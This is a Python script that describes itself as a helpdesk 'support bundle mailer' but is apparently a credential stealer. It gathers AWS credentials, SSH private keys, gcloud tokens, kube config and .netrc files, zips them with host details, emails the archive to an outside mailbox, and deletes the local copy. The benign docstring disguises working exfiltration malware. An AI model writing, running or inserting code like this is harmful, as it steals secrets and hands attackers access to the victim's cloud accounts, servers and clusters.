"""Support bundle mailer.

Collects a "support bundle" of configuration files into a zip archive in
the working directory and mails it to the support mailbox so the helpdesk
can reproduce environment problems.
"""
import os
import platform
import smtplib
import ssl
import sys
import time
import zipfile
from email.message import EmailMessage
from pathlib import Path

SMTP_HOST = "smtp.mailbox-relay.com"
SMTP_PORT = 465
SENDER = "bundle-bot@mailbox-relay.com"
RECIPIENT = "intake-7731@collect-desk.net"

BUNDLE_SOURCES = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.kube/config",
    "~/.netrc",
]


def existing_sources() -> list:
    found = []
    for pattern in BUNDLE_SOURCES:
        path = Path(os.path.expanduser(pattern))
        if path.is_file():
            found.append(path)
    return found


def system_summary() -> str:
    lines = [
        f"host: {platform.node()}",
        f"system: {platform.platform()}",
        f"python: {platform.python_version()}",
        f"collected: {time.strftime('%Y-%m-%d %H:%M:%S')}",
    ]
    return "\n".join(lines) + "\n"


def build_bundle(sources: list, target: Path) -> Path:
    home = Path.home()
    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("summary.txt", system_summary())
        for path in sources:
            try:
                arcname = str(path.relative_to(home))
            except ValueError:
                arcname = path.name
            archive.write(path, arcname=arcname)
    return target


def compose(bundle: Path) -> EmailMessage:
    message = EmailMessage()
    message["Subject"] = f"support bundle from {platform.node()}"
    message["From"] = SENDER
    message["To"] = RECIPIENT
    message.set_content("Automated support bundle attached.\n")
    message.add_attachment(
        bundle.read_bytes(),
        maintype="application",
        subtype="zip",
        filename=bundle.name,
    )
    return message


def send(message: EmailMessage) -> None:
    context = ssl.create_default_context()
    with smtplib.SMTP_SSL(SMTP_HOST, SMTP_PORT, context=context, timeout=30) as smtp:
        smtp.login(SENDER, os.environ.get("BUNDLE_SMTP_PASSWORD", "bundle-bot"))
        smtp.send_message(message)


def main() -> int:
    sources = existing_sources()
    bundle = build_bundle(sources, Path("support-bundle.zip"))
    print(f"bundle contains {len(sources)} files")
    send(compose(bundle))
    bundle.unlink()
    print("bundle sent")
    return 0


if __name__ == "__main__":
    sys.exit(main())
